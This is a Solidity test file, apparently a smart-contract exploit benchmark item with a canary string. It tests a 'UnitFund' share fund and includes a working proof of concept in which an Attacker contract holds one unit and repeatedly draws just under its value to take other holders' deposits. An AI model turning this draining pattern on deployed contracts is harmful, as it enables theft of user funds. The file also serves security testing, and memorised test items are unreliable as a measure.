// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./UnitFund.sol";

// assay-canary-6dea1423-7816-4594-a8ea-ee6d9ccd5f03

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function decimals() public pure override returns (uint8) {
        return 6;
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        _mint(to, value);
    }
}

contract Holder {
    Coin internal coin;
    UnitFund internal fund;

    constructor(Coin coin_, UnitFund fund_) {
        coin = coin_;
        fund = fund_;
        coin.approve(address(fund_), type(uint256).max);
    }

    function buy(uint256 units) public {
        fund.buy(units, type(uint256).max);
    }

    function redeem(uint256 units) public {
        fund.redeem(units);
    }

    function draw(uint256 value) public {
        fund.draw(value);
    }

    function move(address to, uint256 units) public {
        fund.move(to, units);
    }
}

/// Holds one unit and draws a little less than it is worth, many times.
contract Attacker is Holder {
    constructor(Coin coin_, UnitFund fund_) Holder(coin_, fund_) {}

    function enter() external {
        buy(1);
    }

    function run() external {
        for (uint256 i = 0; i < 60; ++i) {
            draw(fund.worth(1) - 1);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Coin public token;
    UnitFund private fund;
    Holder private anna;
    Holder private bert;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        token = new Coin();
        fund = new UnitFund(token);
        anna = new Holder(token, fund);
        bert = new Holder(token, fund);
        mallory = new Attacker(token, fund);
        token.mint(address(anna), 6_000e6);
        token.mint(address(bert), 4_000e6);
        token.mint(address(mallory), 150e6);
        token.mint(address(this), 2_000e6);
        token.approve(address(fund), 2_000e6);
        anna.buy(60);
        bert.buy(40);
    }

    function test_Regular() public {
        require(fund.cash() == 10_000e6 && fund.units() == 100, "bought");
        require(!_try(anna, abi.encodeCall(Holder.draw, (100e6))), "locked");
        vm.warp(block.timestamp + 3 days);
        fund.add(2_000e6);
        require(fund.worth(1) == 120e6, "worth a fifth more");

        anna.redeem(10);
        require(token.balanceOf(address(anna)) == 1_200e6, "redeemed");
        bert.draw(600e6);
        require(token.balanceOf(address(bert)) == 600e6 && fund.bal(address(bert)) == 35, "drawn");
        require(!_try(bert, abi.encodeCall(Holder.draw, (4_200e6 + 1))), "more than they are worth");
        require(!_try(bert, abi.encodeCall(Holder.draw, (1e6))), "least draw");
        require(!_try(bert, abi.encodeCall(Holder.redeem, (36))), "more than he holds");

        bert.move(address(anna), 5);
        require(fund.bal(address(anna)) == 55 && fund.worth(85) == fund.cash(), "moved");
        fund.setFee(100);
        bert.buy(1);
        require(token.balanceOf(address(bert)) == 600e6 - 121.2e6, "fee");
        require(token.balanceOf(address(fund)) == fund.cash(), "books");
        fund.transferOwnership(address(anna));
        vm.prank(address(anna));
        fund.renounceOwnership();
    }

    function _try(Holder who, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The owner's business, and units that cost too much or are locked or are none.
    function test_RefusesHolders() public {
        refuses(address(bert), abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, bert));
        fund.setFee(0);
        vm.expectRevert(UnitFund.Dear.selector);
        fund.setFee(301);
        refuses(address(bert), UnitFund.Small.selector);
        fund.buy(0, 1);
        refuses(address(mallory), UnitFund.Dear.selector);
        fund.buy(1, 100e6 - 1);
        refuses(address(bert), UnitFund.Locked.selector);
        fund.move(address(anna), 1);
        refuses(address(mallory), UnitFund.Few.selector);
        fund.move(address(anna), 1);
        refuses(address(mallory), UnitFund.Few.selector);
        fund.redeem(1);
        refuses(address(bert), UnitFund.Locked.selector);
        fund.redeem(1);
        vm.warp(block.timestamp + 3 days);
        refuses(address(bert), UnitFund.Small.selector);
        fund.draw(5e6 - 1);
        refuses(address(bert), UnitFund.Small.selector);
        fund.draw(4_000e6 + 1);
    }

    function exploit() public {
        mallory.enter();
        vm.warp(block.timestamp + 3 days);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) >= before + 4_000e6, "nothing gained");
        require(fund.bal(address(mallory)) == 1, "the unit is used up");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
